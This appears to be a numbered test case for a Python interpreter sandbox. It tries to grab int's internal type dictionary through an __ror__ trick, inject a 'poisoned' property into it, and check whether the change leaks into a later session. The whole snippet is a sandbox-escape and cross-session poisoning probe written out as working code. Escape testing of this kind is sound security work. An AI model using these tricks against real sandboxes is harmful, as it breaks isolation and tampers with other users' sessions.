# a17: gain: the mutable dict of int
class Spy:
    def __ror__(self, other):
        self.got = other
        return other
spy = Spy()
attempt(lambda: int.__dict__ | spy)
got = vars(spy).get("got")
if type(got) is dict:
    got["pynterp_poison"] = property(lambda self: "GAIN: poisoned")
    attempt(lambda: object.__subclasses__())
### second session
print(getattr(5, "pynterp_poison", ""))
